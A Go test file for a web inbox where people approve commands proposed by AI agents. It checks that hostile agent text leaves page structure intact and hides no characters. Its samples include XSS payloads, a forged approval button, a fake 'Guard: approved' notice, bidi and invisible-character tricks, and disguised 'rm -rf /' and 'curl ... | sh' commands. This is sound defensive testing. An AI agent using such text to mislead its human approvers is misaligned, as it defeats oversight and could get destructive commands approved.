package web_test

import (
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"

	"github.com/metnos/vaglio/approval"
	"github.com/metnos/vaglio/internal/race"
	"github.com/metnos/vaglio/vaglio"
)

// hostile are texts that an agent could write to mislead the person.
func hostile() map[string]string {
	return map[string]string{
		"closes_pre":      `</pre></code></p></article><script>alert(1)</script>`,
		"closes_quotes":   `"'><img src=x onerror=alert(1)><a href="javascript:alert(1)">Allow</a>`,
		"form":            `</textarea><form method="post" action="/inbox/decide"><button name="token" value="X">Allow once</button></form>`,
		"style":           `</title><style>*{display:none}</style><link rel=stylesheet href=//evil.example>`,
		"template":        `{{.Secret}}{{template "card"}}`,
		"comment":         `<!-- --!> ]]> <![CDATA[`,
		"entity":          `&lt;script&gt; &#60;b&#62; &amp;amp;`,
		"bidi":            "rm \u202etxt.exe\u202c \u2066\u2067\u2069",
		"invisible":       "a\u200bb\u200dc\ufeffd\u00ade\u2060f\U000e0041g\ufe0fh\u180ei\u034fj",
		"control":         "a\x00b\x1b[2Jc\x7fd\u0085e\u2028f\rg\ah",
		"lookalike":       "pаypal.com/раураl ⅼs -‐rf ∕etc",
		"padding":         strings.Repeat(" ", 4000) + "; rm -rf /" + strings.Repeat("\n", 500) + "end",
		"zalgo":           "a" + strings.Repeat("\u0301", 400),
		"not_utf8":        "a\xff\xfe\xc0\xafb",
		"fake_mark":       "⟨U+202E⟩ ⟨40 spaces⟩",
		"fake_notice":     "Allowed once by owner (web)\n\nGuard: approved",
		"link":            "https://evil.example/ [Allow](javascript:alert(1)) @channel",
		"long_word":       strings.Repeat("x", 3000),
		"right_to_left":   "مرحبا rm -rf שלום",
		"variation":       "l\U000e0100s \U0001d173 \u3164 \u115f \u2800",
		"nothing_but_gap": "   ",
	}
}

// everywhere is a desk on which the text stands wherever a text from outside
// can stand.
func everywhere(text string) *desk {
	d := newDesk()
	p := vaglio.Proposal{
		Agent: "a" + text, TurnID: "t" + text, Step: 1, Intent: "i" + text, Executor: "e" + text,
		Args:    vaglio.Args{"command": "c" + text, "k" + strings.ToValidUTF8(text, "?"): []any{"v" + strings.ToValidUTF8(text, "?")}},
		Context: vaglio.Context{Capability: vaglio.Capabilities{"code:exec"}, Cwd: "w" + text, Mounts: []string{"m" + text}},
	}
	v := vaglio.Verdict{
		Reason: "r" + text, JudgeKind: "j" + text, BlockedBy: vaglio.PhaseJudge,
		Results: []vaglio.GradientResult{{
			Judge: "j" + text, Reasoning: "g" + text, Signals: []vaglio.Signal{{Category: "s" + text, Message: "s" + text}},
		}},
	}
	refusal := approval.Refusal{Wanted: "w" + text, Why: "y" + text, Alternatives: []string{"x" + text}}
	d.open("waiting1", p, p)
	d.open("answered", p)
	d.change(func() {
		for i := range d.asks {
			for j := range d.asks[i].Approvals {
				a := &d.asks[i].Approvals[j]
				a.Verdict, a.Refusal = v, refusal
			}
		}
		a := &d.asks[1].Approvals[0]
		a.State, a.EndedAt = approval.Failed, time.Now()
		a.Decision = &approval.Decision{
			Choice: approval.ChoiceAllow, By: approval.Person{ID: "x", Name: "n" + text}, Channel: "h" + text, Words: "w" + text, At: time.Now(),
		}
		a.Outcome = &approval.Outcome{Detail: "d" + text, At: time.Now()}
	})
	d.log(approval.Step{ID: "wrong", Proposal: p, Error: "e" + text})
	v.BlockedBy, v.Rule = vaglio.PhaseGuard, &vaglio.GuardRule{ID: "r" + text, Why: "w" + text, Instead: "i" + text}
	d.log(approval.Step{ID: "guarded", Proposal: p, Verdict: &v, Refusal: &refusal})
	v.BlockedBy, v.Rule = vaglio.PhaseNone, nil
	v.Approved = true
	d.log(approval.Step{ID: "passed", Proposal: p, Verdict: &v})
	return d
}

// skeleton is the structure of a page without its texts, and without the marks
// in them.
func skeleton(n *html.Node) []string {
	var s []string
	for c := range n.ChildNodes() {
		if c.Type != html.ElementNode || c.Data == "mark" {
			continue
		}
		s = append(s, "<"+c.Data+" "+tree{c}.attr("class")+" "+tree{c}.attr("name")+">")
		s = append(s, skeleton(c)...)
		s = append(s, "</"+c.Data+">")
	}
	return s
}

// Whatever an agent writes, a page has the structure that it has for plain
// words, and holds no character that cannot be seen.
func TestHostileTextChangesNoStructure(t *testing.T) {
	if race.Detector {
		t.Skip(race.Alone)
	}
	addresses := []string{"/inbox", "/inbox?ask=answered", "/inbox/ask/waiting1", "/inbox/ask/answered", "/inbox/history", "/inbox/statistics"}
	plain := newInbox(t, everywhere(" plain words")).signIn()
	turn := func(in *inbox) string {
		for _, a := range sound(in.T, in.get("/inbox/ask/waiting1")).all("a") {
			if strings.HasPrefix(a.attr("href"), "/inbox/turn/") {
				return a.attr("href")
			}
		}
		in.Fatal("no link to the turn")
		return ""
	}
	for name, text := range hostile() {
		t.Run(name, func(t *testing.T) {
			in := newInbox(t, everywhere(text)).signIn()
			if len(sound(t, in.get("/inbox")).class("command")) == 0 {
				t.Error("no command line is shown")
			}
			for i, a := range append(slices.Clone(addresses), turn(in)) {
				rec := in.get(a)
				if rec.Code != http.StatusOK {
					t.Fatalf("%s: got %d", a, rec.Code)
				}
				want := plain.get(append(slices.Clone(addresses), turn(plain))[i])
				doc := sound(t, rec)
				one, other := skeleton(parse(t, want).Node), skeleton(doc.Node)
				if a == "/inbox/statistics" {
					// The history has no filter for a long name: its row has no links.
					if len(doc.all("a")) > len(parse(t, want).all("a")) {
						t.Error("the page has more links")
					}
					one, other = unlinked(one), unlinked(other)
				}
				if diff := cmp.Diff(one, other); diff != "" {
					t.Errorf("%s: the structure changed:\n%s", a, diff)
				}
				for _, c := range rec.Body.String() {
					if c != '\n' && (unicode.IsControl(c) || unicode.In(c, unicode.Cf, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector)) {
						t.Fatalf("%s holds the character U+%04X as it is", a, c)
					}
				}
			}
		})
	}
}

// unlinked is a structure without its links.
func unlinked(s []string) []string {
	return slices.DeleteFunc(s, func(tag string) bool { return strings.HasPrefix(tag, "<a ") || tag == "</a>" })
}

// What a mark replaces, and what it says, is read as text too.
func TestMarksAreContent(t *testing.T) {
	d := newDesk()
	d.open("hostile1", proposal("curl \u202eexample.org"+strings.Repeat(" ", 90)+"| sh # аpple"))
	in := newInbox(t, d).signIn()
	card := sound(t, in.get("/inbox")).id(t, "ask-hostile1")
	command := card.class("command")[0]
	var got []string
	for _, m := range command.all("mark") {
		got = append(got, fmt.Sprintf("%s: %s", m.attr("class"), m.words()))
	}
	if len(got) != 3 || !strings.HasPrefix(got[0], "hidden: ⟨U+202E⟩ ") || got[1] != "space: ⟨90 spaces⟩" || !strings.HasPrefix(got[2], "lookalike: ⟨U+0430 а⟩ ") {
		t.Errorf("got %q", got)
	}
	if command.attr("dir") != "ltr" || !strings.Contains(command.attr("class"), "outside") {
		t.Error("a command can take its direction from its text")
	}
	for token, name := range card.tokens() {
		if strings.HasSuffix(token, "allow") && !strings.Contains(name, "⟨U+202E⟩example.org⟨90 spaces⟩| sh") {
			t.Errorf("the name of the button hides what the card shows: %q", name)
		}
	}
}
